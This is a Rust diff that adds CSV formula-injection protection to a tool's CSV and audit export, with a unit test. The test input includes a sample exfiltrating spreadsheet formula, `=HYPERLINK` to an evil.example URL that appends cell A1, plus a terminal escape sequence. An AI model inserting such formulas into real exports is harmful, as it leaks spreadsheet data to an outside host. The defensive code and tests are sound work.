@@ -8,6 +8,15 @@
 //! opens correctly by double-click: a UTF-8 byte-order mark (without it
 //! Excel reads `æøå` as Windows-1252) and the list separator of the reader's
 //! locale (`;` in Norwegian, where `,` is the decimal comma).
+//!
+//! Both dialects neutralise formula injection as OWASP's CSV-injection
+//! guidance says: a cell that begins with `=`, `+`, `-`, `@`, a tab or a
+//! carriage return gets a leading `'`, so a spreadsheet shows it as text
+//! instead of running it (`=HYPERLINK(...)` in a name or comment). Plain CSV
+//! does it too, because a `.csv` file is as likely to be double-clicked as
+//! read by a program; a program that needs the exact values reads
+//! `--format json`. Control characters are written visibly
+//! ([`crate::controls`]).
 
 use std::io::{self, Write};
 
@@ -51,6 +60,27 @@ fn writer<'a>(
         .from_writer(out))
 }
 
+/// A cell as it may be written: control characters escaped, and a leading
+/// `'` before a character that would make a spreadsheet read a formula.
+pub fn safe_cell(s: &str) -> String {
+    let s = crate::controls::escape_controls(s);
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}")
+    } else {
+        s.into_owned()
+    }
+}
+
+/// Write one record of safe cells.
+fn record<I, S>(w: &mut csv::Writer<&mut dyn Write>, cells: I) -> io::Result<()>
+where
+    I: IntoIterator<Item = S>,
+    S: AsRef<str>,
+{
+    w.write_record(cells.into_iter().map(|c| safe_cell(c.as_ref())))
+        .map_err(csv_err)
+}
+
 fn csv_err(e: csv::Error) -> io::Error {
     match e.into_kind() {
         csv::ErrorKind::Io(e) => e,
@@ -58,7 +88,8 @@ fn csv_err(e: csv::Error) -> io::Error {
     }
 }
 
-/// A header and rows of text, in `dialect`.
+/// A header and rows of text, in `dialect`, every cell made safe
+/// ([`record`]).
 pub fn write_rows(
     header: &[String],
     rows: &[Vec<String>],
@@ -67,9 +98,9 @@ pub fn write_rows(
     out: &mut dyn Write,
 ) -> io::Result<()> {
     let mut w = writer(dialect, cat, out)?;
-    w.write_record(header).map_err(csv_err)?;
+    record(&mut w, header)?;
     for r in rows {
-        w.write_record(r).map_err(csv_err)?;
+        record(&mut w, r)?;
     }
     w.flush()
 }
@@ -166,27 +197,47 @@ pub fn write_audit_csv(
         Msg::CsvWhy,
         Msg::CsvEvidence,
     ];
-    w.write_record(header.iter().map(|m| cat.text(*m)))
-        .map_err(csv_err)?;
+    record(&mut w, header.iter().map(|m| cat.text(*m)))?;
     for f in &audit.findings {
         let evidence: Vec<String> = f
             .evidence
             .iter()
             .map(|e| citation(&e.source, &e.lines))
             .collect();
-        w.write_record([
-            f.code.as_str().to_owned(),
-            severity_label(f.severity, cat),
-            f.snapshot.to_string(),
-            f.arrangement
-                .as_ref()
-                .map(|a| a.to_string())
-                .unwrap_or_default(),
-            f.text.render(cat),
-            why_text(f.code, cat),
-            evidence.join("; "),
-        ])
-        .map_err(csv_err)?;
+        record(
+            &mut w,
+            [
+                f.code.as_str().to_owned(),
+                severity_label(f.severity, cat),
+                f.snapshot.to_string(),
+                f.arrangement
+                    .as_ref()
+                    .map(|a| a.to_string())
+                    .unwrap_or_default(),
+                f.text.render(cat),
+                why_text(f.code, cat),
+                evidence.join("; "),
+            ],
+        )?;
     }
     w.flush()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::safe_cell;
+
+    #[test]
+    fn formulas_are_neutralised() {
+        assert_eq!(
+            safe_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+        );
+        for s in ["+1", "-1", "@SUM(A1)", "\tx"] {
+            assert_eq!(safe_cell(s), format!("'{s}"));
+        }
+        assert_eq!(safe_cell("\rx"), "\\u{d}x");
+        assert_eq!(safe_cell("Øyer = x"), "Øyer = x");
+        assert_eq!(safe_cell("a\u{1b}]0;t\u{7}"), "a\\u{1b}]0;t\\u{7}");
+    }
 }
